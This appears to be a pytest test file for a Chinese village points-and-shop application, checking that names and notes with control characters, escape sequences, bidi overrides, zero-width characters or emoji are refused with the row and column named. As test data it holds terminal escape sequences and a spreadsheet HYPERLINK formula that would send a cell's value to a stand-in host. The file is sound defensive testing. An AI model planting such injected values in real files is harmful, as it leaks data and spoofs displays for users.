"""Names and free text pass one door: control characters, bidi overrides, zero-width characters and emoji in
names are refused with the row and the column named, on every path (roster, household dialogs' service, products,
rules, villages, the command line), and nothing is written."""
from __future__ import annotations

import csv

import pytest

from pointsapp.errors import UserError
from pointsapp.models import Household, Member, Product, Rule, Village
from pointsapp.services.register import textnorm
from pointsapp.services.register.households import HouseholdData, MemberData, create_household
from pointsapp.services.register.roster_import import import_roster
from pointsapp.services.register.villages import create_village
from pointsapp.services.scoring import rules
from pointsapp.services.shop import products
from tests.conftest import admin_with_password
from tests.cli_helpers import run_cli
from tests.test_roster_import import HEADER, good_people, write_roster

BAD = {
    "bell": ("张\x07三", "U+0007"),
    "escape": ("\x1b[31m张三", "U+001B"),
    "nul": ("张\x00三", "U+0000"),
    "c1": ("张\x85三", None),  # NEL is whitespace to Python: collapsed, never stored raw
    "rtl override": ("张\u202e三", "U+202E"),
    "isolate": ("\u2067张三", "U+2067"),
    "zero width": ("张\u200b三", "U+200B"),
    "bom": ("\ufeff张三", "U+FEFF"),
    "emoji": ("张三😀", "表情符号"),
}


@pytest.mark.parametrize("kind", [k for k, (_, why) in BAD.items() if why])
def test_a_roster_with_a_hidden_character_is_refused_with_row_and_column(db, admin, tmp_path, kind):
    value, why = BAD[kind]
    people = good_people()
    people[1][5] = value
    if any(ord(c) < 32 for c in value):  # an .xlsx cannot hold these: a CSV brings them (row 3: header, first, this)
        path, row = tmp_path / "r.csv", 3
        with path.open("w", encoding="utf-8-sig", newline="") as f:
            csv.writer(f).writerows([HEADER] + people)
    else:  # row 5 of the sheet: title, note, header, first person, this one
        path, row = write_roster(tmp_path / "r.xlsx", people), 5
    result = import_roster(actor=admin, path=path, village="柳溪村")
    assert not result.written
    assert any(f.row == row and "“姓名”列" in f.reason and why in f.reason for f in result.faults), result.fault_lines()
    assert Household.select().count() == 0 and Member.select().count() == 0


def test_a_csv_with_control_characters_is_refused_and_names_are_stored_in_nfc(db, admin, tmp_path):
    people = good_people()
    people[0][9] = "1组\x1b1号"  # the address column
    path = tmp_path / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([HEADER] + people)
    result = import_roster(actor=admin, path=path, village="柳溪村")
    assert result.faults[0].row == 2 and "“家庭住址”列" in result.faults[0].reason and not result.written
    assert Household.select().count() == 0
    people = good_people()
    people[1][5] = "李秀e\u0301"  # decomposed é: stored composed, as typed elsewhere
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([HEADER] + people)
    assert import_roster(actor=admin, path=path, village="柳溪村").written
    assert Member.get(Member.name == "李秀\u00e9").name == "李秀\u00e9"


def test_real_long_and_rare_names_still_pass_the_door():
    for name in ("欧阳娜娜", "阿卜杜热合曼·买买提", "爱新觉罗·溥仪", "王䶮", "张𠈌", "第二十三村民小组"):
        assert textnorm.text_problem(name, name=True, max_length=textnorm.NAME_MAX) is None


@pytest.mark.parametrize("kind", [k for k, (_, why) in BAD.items() if why])
def test_every_service_door_refuses_the_same_characters(db, admin, kind):
    value, why = BAD[kind]
    village = create_village(actor=admin, name="桃园村", code="V01", groups=["1组"])
    with pytest.raises(UserError, match="姓名") as refused:
        create_household(actor=admin, village=village, data=HouseholdData(
            household_no="01001", group_name="1组", members=[MemberData(name=value, relation="户主", is_head=True)]))
    assert why in refused.value.message
    with pytest.raises(UserError, match="商品名称"):
        products.create_product(actor=admin, data=products.ProductData(sku="6901", name=value, price=5))
    category = rules.list_categories(actor=admin, village_id=village.id)[0]
    if why != "表情符号":  # a rule's title is free text: an emoji there is odd but harmless
        with pytest.raises(UserError, match="细则名称"):
            rules.create_rule(actor=admin, village_id=village.id, category_id=category.id, code="X1", title=value,
                              points=5)
    with pytest.raises(UserError, match="村名"):
        create_village(actor=admin, name=value, code="V02")
    with pytest.raises(UserError, match="村民小组"):
        create_household(actor=admin, village=village, data=HouseholdData(
            household_no="01002", group_name=value, members=[MemberData(name="李四", relation="户主", is_head=True)]))
    assert Household.select().count() == 0 and Product.select().count() == 0
    assert not Rule.select().where(Rule.code == "X1").exists() and Village.select().count() == 1


def test_the_command_line_refuses_a_product_name_with_an_escape_sequence(admin, db_target):
    done = run_cli("products", "add", "--sku", "6901234", "--name", "\x1b[2J食盐", "--price", "5", db=db_target)
    assert done.returncode != 0
    assert "商品名称" in done.stderr and "U+001B" in done.stderr and "程序内部错误" not in done.stderr


def test_names_stored_before_the_door_print_harmlessly_and_export(db_target, tmp_path):
    """A name imported by an older version with ESC and an RTL override: the list shows �, the export works."""
    from pointsapp.db import close_database, open_database

    open_database(db_target)
    admin = admin_with_password()
    village = create_village(actor=admin, name="桃园村", code="V01", groups=["1组"])
    household = create_household(actor=admin, village=village, data=HouseholdData(
        household_no="01", group_name="1组", members=[MemberData(name="张三", relation="户主", is_head=True)]))
    Household.update(head_name="\x1b[2J张\u202e三\x07").where(Household.id == household.id).execute()
    Member.update(name="\x1b[2J张\u202e三\x07").where(Member.household == household.id).execute()
    close_database()
    done = run_cli("households", "list", db=db_target)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and "\ufffd[2J张\ufffd三\ufffd" in done.stdout
    done = run_cli("export", "households", str(tmp_path / "户籍.xlsx"), db=db_target)
    assert done.returncode == 0 and "程序内部错误" not in done.stderr, done.stderr


def test_reasons_and_notes_pass_the_same_door_and_may_span_lines(db, admin):
    from pointsapp.models import StockMove
    from pointsapp.services.shop import stock
    from tests.shop_helpers import make_shop

    shop = make_shop(admin)
    salt = Product.get(Product.sku == shop["skus"]["食盐"])
    moves = StockMove.select().count()
    for reason in ("过期\x1b[2J", "破损\u202e", "\u200b"):
        with pytest.raises(UserError, match="原因"):
            stock.stock_out(actor=admin, product_id=salt.id, quantity=1, reason=reason)
    with pytest.raises(UserError, match="备注"):
        stock.stock_in(actor=admin, product_id=salt.id, quantity=1, note="乡贤\x07捐赠")
    assert StockMove.select().count() == moves
    move = stock.stock_out(actor=admin, product_id=salt.id, quantity=1, reason=" 过期\r\n  两袋破损 ")
    assert move.reason == "过期\n两袋破损"


def test_a_formula_in_a_name_cell_is_called_a_formula_not_a_missing_name(db, admin, tmp_path):
    people = good_people()
    people[1][5] = '=HYPERLINK("http://x/?"&H5,"点我")'  # openpyxl writes it as a formula with no computed value
    result = import_roster(actor=admin, path=write_roster(tmp_path / "r.xlsx", people), village="柳溪村")
    assert not result.written
    assert [str(f) for f in result.faults if f.row == 5] == [
        '第 5 行：姓名一格是公式（=HYPERLINK("http://x/?"&H5,"点我")），不是姓名：请改成文字后再导入']
    assert Household.select().count() == 0
